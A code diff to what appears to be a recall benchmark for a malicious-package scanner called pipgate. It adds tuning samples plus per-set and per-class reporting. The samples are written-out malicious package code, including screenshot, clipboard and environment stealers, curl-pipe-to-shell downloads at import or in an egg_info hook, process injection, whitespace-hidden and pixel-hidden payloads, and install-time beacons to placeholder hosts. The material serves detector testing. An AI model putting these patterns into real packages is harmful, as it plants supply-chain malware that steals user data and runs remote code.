@@ -4,7 +4,12 @@ malware write-ups (no live malware is downloaded; payload hosts are documentatio
 example domains), scan each with `pipgate scan` under the repo's policy.yaml, and report
 which are caught (blocked), which are only flagged (annotated), and which are missed.
 
-Usage: bench/recall.py   (needs `cargo build --release`)
+Two sets, reported side by side: the TUNING set below (detectors may be tuned on it) and
+the HELD-OUT set in bench/recall_heldout.py (only measured, never tuned on). Each sample
+names the behaviour classes it exercises, so per-class recall is printed too.
+
+Usage: bench/recall.py [--set=tuning|heldout|all]   (needs `cargo build --release`;
+PIPGATE_BIN or CARGO_TARGET_DIR point it at another build)
 """
 import base64
 import io
@@ -18,7 +23,8 @@ import zipfile
 import zlib
 
 ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
-PIPGATE = os.path.join(ROOT, "target", "release", "pipgate")
+PIPGATE = os.environ.get("PIPGATE_BIN") or os.path.join(
+    os.environ.get("CARGO_TARGET_DIR") or os.path.join(ROOT, "target"), "release", "pipgate")
 B64 = lambda s: base64.b64encode(s.encode()).decode()  # noqa: E731
 
 SETUP_HEAD = "from setuptools import setup\n"
@@ -155,7 +161,105 @@ SAMPLES = [
         "d = base64.b32encode((getpass.getuser() + '@' + platform.node()).encode()).decode().strip('=')\n"
         "socket.gethostbyname(d + '.oob.example.org')\n"},
      "DNS exfiltration of user and host", "dependency-confusion DNS beacons"),
+
+    # --- tuning cases for the behaviour classes of issue 10, written from the class
+    # descriptions (held-out cases live in bench/recall_heldout.py and are never tuned on).
+    ("demo-screenshot", "wheel", {"demo_screenshot/__init__.py":
+        "import io, requests\nfrom PIL import ImageGrab\nb = io.BytesIO()\nImageGrab.grab().save(b, 'PNG')\n"
+        "requests.post('https://hooks.example.org/u', files={'s': b.getvalue()})\n"},
+     "screenshot sent out on import", "screen-capture stealers"),
+    ("demo-clipboard", "wheel", {"demo_clipboard/__init__.py":
+        "import subprocess, urllib.request\nclip = subprocess.check_output(['xclip', '-o', '-selection', 'clipboard'])\n"
+        "urllib.request.urlopen('http://203.0.113.3/c', data=clip)\n"},
+     "clipboard read and sent on import", "clipboard stealers"),
+    ("demo-dict-access", "wheel", {"demo_dict_access/__init__.py":
+        "import os\nos.__dict__['sys' + 'tem']('curl -s http://203.0.113.4/x | sh')\n"},
+     "os.system reached through the module dict with a built name", "dynamic API access"),
+    ("demo-import-module", "sdist", {"setup.py":
+        "import importlib\nfrom setuptools import setup\nm = importlib.import_module('so' + 'cket')\n"
+        "s = m.socket(); s.connect(('203.0.113.5', 9001))\nsetup(name='demo-import-module', version='1.0')\n"},
+     "socket imported under a built name at install", "dynamic API access"),
+    ("demo-b64-subprocess", "sdist", {"setup.py":
+        "import base64, subprocess, sys\nfrom setuptools import setup\n"
+        "payload = base64.b64decode('" + B64("import os;os.system('id')") + "').decode()\n"
+        "subprocess.Popen([sys.executable, '-c', payload])\nsetup(name='demo-b64-subprocess', version='1.0')\n"},
+     "decoded payload run through python -c at install", "decode-then-run in any sink"),
+    ("demo-injection", "wheel", {"demo_injection/__init__.py":
+        "import ctypes\nk = ctypes.windll.kernel32\nh = k.OpenProcess(0x1F0FFF, False, 4242)\n"
+        "a = k.VirtualAllocEx(h, 0, 4096, 0x3000, 0x40)\nk.WriteProcessMemory(h, a, b'\\x90' * 16, 16, None)\n"
+        "k.CreateRemoteThread(h, None, 0, a, None, 0, None)\n"},
+     "remote-process injection through kernel32", "native injection"),
+    ("demo-env-ngrok", "wheel", {"demo_env_ngrok/__init__.py":
+        "import os, json, requests\nrequests.post('https://4f2a-198-51-100-2.ngrok-free.app/e', data=json.dumps(dict(os.environ)))\n"},
+     "environment dumped to a tunnelling service on import", "exfiltration to tunnels"),
+    ("demo-drop-run", "wheel", {"demo_drop_run/__init__.py":
+        "import os, tempfile, urllib.request, subprocess\np = os.path.join(tempfile.gettempdir(), 'upd.sh')\n"
+        "data = urllib.request.urlopen('http://203.0.113.6/u').read()\nwith open(p, 'wb') as f:\n    f.write(data)\n"
+        "subprocess.call(['bash', p])\n"},
+     "download, write to temp, run, across statements", "download-write-run"),
+    ("demo-ipv6-url", "wheel", {"demo_ipv6_url/__init__.py":
+        "import urllib.request\nexec(urllib.request.urlopen('http://[2001:db8::7]/stage2').read())\n"},
+     "IPv6-literal URL fetched and run", "shady links"),
+    ("demo-pixels", "wheel", {"demo_pixels/__init__.py":
+        "from PIL import Image\nimport os\nim = Image.open(os.path.join(os.path.dirname(__file__), 'icon.png'))\n"
+        "bits = ''.join(str(p[0] & 1) for p in im.getdata())\n"
+        "code = bytes(int(bits[i:i + 8], 2) for i in range(0, len(bits), 8)).split(b'\\0')[0]\nexec(code)\n"},
+     "code from image pixel LSBs executed", "steganography"),
+    ("demo-egg-info-hook", "sdist", {"setup.py":
+        "import os\nfrom setuptools import setup\nfrom setuptools.command.egg_info import egg_info\n"
+        "class E(egg_info):\n    def run(self):\n        os.system('curl -s http://203.0.113.8/e | sh')\n        egg_info.run(self)\n"
+        "setup(name='demo-egg-info-hook', version='1.0', cmdclass={'egg_info': E})\n"},
+     "egg_info override runs a download when pip only asks for metadata", "install-time anomalies"),
+    ("demo-hidden-semicolon", "wheel", {"demo_hidden_semicolon/__init__.py":
+        "VERSION = '1.0'" + " " * 300 + ";import os;os.system('curl -s http://203.0.113.9/h|sh')\n"},
+     "payload pushed past the visible line", "code hidden from view"),
+    ("demo-oast-beacon", "sdist", {"setup.py":
+        "import socket, getpass, os, urllib.request\nfrom setuptools import setup\n"
+        "urllib.request.urlopen('http://x1.oastify.com/?h=' + socket.gethostname() + '&u=' + getpass.getuser() + '&d=' + os.getcwd())\n"
+        "setup(name='demo-oast-beacon', version='1.0')\n"},
+     "host/user/cwd beacon to an OOB collaborator at install", "dependency-confusion beacons"),
+    ("demo-fake-pyc", "wheel", {"demo_fake_pyc/__init__.py":
+        "import zipimport, os\nzipimport.zipimporter(os.path.join(os.path.dirname(__file__), 'cache.pyc')).load_module('p')\n",
+        "demo_fake_pyc/cache.pyc": "PK\x03\x04" + "\x00" * 26 + "p.py"},
+     "a .pyc member that is really a zip archive, imported", "payloads in non-source members"),
 ]
+
+# Which behaviour classes each sample exercises (per-class recall). Held-out samples carry
+# their own list.
+CLASSES = {
+    "demo-w4sp": ["decode-run", "download-run"], "demo-discord-grab": ["credential-theft", "exfiltration"],
+    "demo-ctx": ["exfiltration", "import-time"], "demo-revshell": ["reverse-shell"],
+    "demo-pymafka": ["download-run", "shady-links"], "demo-secretslib": ["download-run"],
+    "demo-torchtriton": ["exfiltration", "credential-theft", "beacon", "import-time"],
+    "demo-pth-loader": ["install-anomaly", "decode-run"], "demo-pyarmor": ["obfuscation"],
+    "demo-powershell": ["download-run"], "demo-browser-steal": ["credential-theft", "exfiltration", "import-time"],
+    "demo-wallet": ["credential-theft", "exfiltration", "import-time"], "demo-persist-cron": ["persistence"],
+    "demo-persist-run": ["persistence", "import-time"], "demo-startup": ["persistence", "download-run", "import-time"],
+    "demo-zlib-marshal": ["decode-run", "import-time"], "demo-hex-exec": ["decode-run", "import-time"],
+    "demo-reverse-b64": ["decode-run", "import-time"], "demo-bidi": ["hidden-code"],
+    "demo-aws-key": ["secrets"], "demo-gh-token": ["secrets"], "demo-private-key": ["secrets"],
+    "reqeusts": ["typosquat"], "colourama": ["typosquat"], "python3-dateutil": ["typosquat"], "jeIlyfish": ["typosquat"],
+    "demo-hook-only": ["beacon", "metadata"], "demo-disposable": ["metadata"],
+    "demo-shortener": ["shady-links", "download-run"], "demo-trusted-sub": ["shady-links"],
+    "demo-sitecustomize": ["install-anomaly", "download-run"], "demo-native-sdist": ["non-source-payload"],
+    "demo-dns-exfil": ["beacon", "exfiltration", "import-time"],
+    "demo-screenshot": ["screen-capture", "exfiltration", "import-time"], "demo-clipboard": ["screen-capture", "exfiltration", "import-time"],
+    "demo-dict-access": ["dynamic-access", "download-run", "import-time"], "demo-import-module": ["dynamic-access"],
+    "demo-b64-subprocess": ["decode-run"], "demo-injection": ["native-injection", "import-time"],
+    "demo-env-ngrok": ["exfiltration", "import-time"], "demo-drop-run": ["download-run", "import-time"],
+    "demo-ipv6-url": ["shady-links", "download-run", "import-time"], "demo-pixels": ["steganography", "import-time"],
+    "demo-egg-info-hook": ["install-anomaly"], "demo-hidden-semicolon": ["hidden-code", "import-time"],
+    "demo-oast-beacon": ["beacon"], "demo-fake-pyc": ["non-source-payload", "import-time"],
+}
+
+BINARY_SUFFIXES = (".png", ".jpg", ".dll", ".pyc", ".exe", ".so", ".bin")
+
+
+def to_bytes(path, content):
+    """Text members as UTF-8; binary members (and strings with NULs) byte for byte."""
+    if path.endswith(BINARY_SUFFIXES) or "\x00" in content or "\x7fELF" in content:
+        return content.encode("latin-1")
+    return content.encode()
 
 
 def build(tmp, name, kind, files, author_email=None):
@@ -166,7 +270,7 @@ def build(tmp, name, kind, files, author_email=None):
         path = os.path.join(tmp, f"{module}-1.0-py3-none-any.whl")
         with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
             for p, c in files.items():
-                z.writestr(p, c)
+                z.writestr(p, to_bytes(p, c))
             z.writestr(f"{module}-1.0.dist-info/METADATA", meta)
             z.writestr(f"{module}-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
             z.writestr(f"{module}-1.0.dist-info/RECORD", "")
@@ -174,37 +278,64 @@ def build(tmp, name, kind, files, author_email=None):
     path = os.path.join(tmp, f"{name}-1.0.tar.gz")
     with tarfile.open(path, "w:gz") as t:
         for p, c in list(files.items()) + [("PKG-INFO", meta)]:
-            data = c.encode("latin-1") if "\x7fELF" in c else c.encode()
+            data = to_bytes(p, c)
             info = tarfile.TarInfo(f"{name}-1.0/{p}")
             info.size = len(data)
             t.addfile(info, io.BytesIO(data))
     return path
 
 
+def samples(which):
+    """(set, name, kind, files, pattern, source, classes) for the chosen set(s)."""
+    out = []
+    if which in ("tuning", "all"):
+        out += [("tuning", n, k, f, p, s, CLASSES.get(n, [])) for n, k, f, p, s in SAMPLES]
+    if which in ("heldout", "all"):
+        sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
+        import recall_heldout
+        out += [("heldout", *row) for row in recall_heldout.SAMPLES]
+    return out
+
+
+def scan(tmp, policy, name, kind, files):
+    email = "x1f9@guerrillamail.com" if name == "demo-disposable" else None
+    path = build(tmp, name, kind, files, email)
+    out = subprocess.run([PIPGATE, "scan", path, "--policy", policy, "--format", "json"], capture_output=True, text=True)
+    report = json.loads(out.stdout) if out.stdout.strip() else {"findings": []}
+    ids = sorted({f["detector"] for f in report["findings"] if f["severity"] not in ("info",)})
+    if out.returncode == 1:
+        return "BLOCKED", ids
+    return ("flagged" if ids else "MISSED"), ids
+
+
 def main():
+    which = next((a.split("=", 1)[1] for a in sys.argv[1:] if a.startswith("--set=")), "all")
     if not os.path.exists(PIPGATE):
-        sys.exit("build first: cargo build --release")
+        sys.exit(f"build first: cargo build --release (looked for {PIPGATE}; set PIPGATE_BIN to override)")
     tmp = tempfile.mkdtemp(prefix="pipgate-recall")
     policy = os.path.join(ROOT, "policy.yaml")
-    caught = flagged = missed = 0
-    rows = []
-    for name, kind, files, pattern, source in SAMPLES:
-        email = "x1f9@guerrillamail.com" if name == "demo-disposable" else None
-        path = build(tmp, name, kind, files, email)
-        out = subprocess.run([PIPGATE, "scan", path, "--policy", policy, "--format", "json"], capture_output=True, text=True)
-        report = json.loads(out.stdout) if out.stdout.strip() else {"findings": []}
-        ids = sorted({f["detector"] for f in report["findings"] if f["severity"] not in ("info",)})
-        if out.returncode == 1:
-            status, caught = "BLOCKED", caught + 1
-        elif ids:
-            status, flagged = "flagged", flagged + 1
-        else:
-            status, missed = "MISSED", missed + 1
-        rows.append((status, name, pattern, source, ids))
-    for status, name, pattern, source, ids in rows:
-        print(f"{status:8} {name:22} {pattern} [{source}]\n{'':31}{', '.join(ids) or '-'}")
-    n = len(SAMPLES)
-    print(f"\n{n} samples: {caught} blocked ({100 * caught // n}%), {flagged} flagged but served, {missed} missed")
+    rows = [(st, name, pattern, source, classes, *scan(tmp, policy, name, kind, files))
+            for st, name, kind, files, pattern, source, classes in samples(which)]
+    for st, name, pattern, source, classes, status, ids in rows:
+        print(f"{st:7} {status:8} {name:22} {pattern} [{source}]\n{'':39}{', '.join(ids) or '-'}")
+    print()
+    sets = [s for s in ("tuning", "heldout") if any(r[0] == s for r in rows)]
+    for st in sets:
+        mine = [r for r in rows if r[0] == st]
+        n = len(mine)
+        caught = sum(r[5] == "BLOCKED" for r in mine)
+        flagged = sum(r[5] == "flagged" for r in mine)
+        print(f"{st:7}: {n} samples: {caught} blocked ({100 * caught / n:.0f}%), {flagged} flagged but served, "
+              f"{n - caught - flagged} missed")
+    classes = sorted({c for r in rows for c in r[4]})
+    print("\nper-class recall (blocked / samples)")
+    print(f"{'class':20} " + " ".join(f"{s:>9}" for s in sets))
+    for c in classes:
+        cells = []
+        for st in sets:
+            mine = [r for r in rows if r[0] == st and c in r[4]]
+            cells.append(f"{sum(r[5] == 'BLOCKED' for r in mine)}/{len(mine)}" if mine else "-")
+        print(f"{c:20} " + " ".join(f"{x:>9}" for x in cells))
 
 
 if __name__ == "__main__":
